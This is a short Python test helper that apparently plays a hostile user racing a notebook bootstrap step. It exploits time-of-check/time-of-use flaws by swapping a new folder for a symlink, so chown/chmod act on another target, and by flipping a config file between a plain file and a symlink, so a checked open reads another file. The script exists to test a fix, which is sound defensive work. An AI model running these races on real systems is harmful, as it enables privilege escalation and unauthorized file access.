#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The hostile user of issue 9: runs as the notebook user and races bootstrap.

racer.py swap-dir PATH TARGET
    As soon as PATH is a real folder (bootstrap just made it), move it aside
    and put a link to TARGET in its place: "mkdir then chown/chmod by name"
    then acts on TARGET.
racer.py flip-file PATH TARGET
    Keep replacing PATH, atomically, by a plain YAML file and by a link to
    TARGET: "check that it is a plain file, then open it by name" then reads
    TARGET.

Prints "ready" once it has started (the test waits for that line, not for a
time), then loops until it is killed.
"""
import os
import stat
import sys


def swap_dir(path, target):
    aside = path + ".aside"
    while True:
        try:
            # only a real folder, the one bootstrap just made: moving the
            # link put there earlier would only race the test's own reset
            if not stat.S_ISDIR(os.lstat(path).st_mode):
                continue
            os.rename(path, aside)
        except OSError:
            continue
        try:
            os.symlink(target, path)
        except OSError:
            pass
        try:
            os.rmdir(aside)
        except OSError:
            pass


def flip_file(path, target):
    plain, link = path + ".plain", path + ".link"
    while True:
        try:
            with open(plain, "w") as f:
                f.write("channels: [defaults]\n")
            os.replace(plain, path)
            try:
                os.unlink(link)
            except FileNotFoundError:
                pass
            os.symlink(target, link)
            os.replace(link, path)
        except OSError:
            pass


def main():
    mode, path, target = sys.argv[1:4]
    print("ready", flush=True)
    {"swap-dir": swap_dir, "flip-file": flip_file}[mode](path, target)


main()
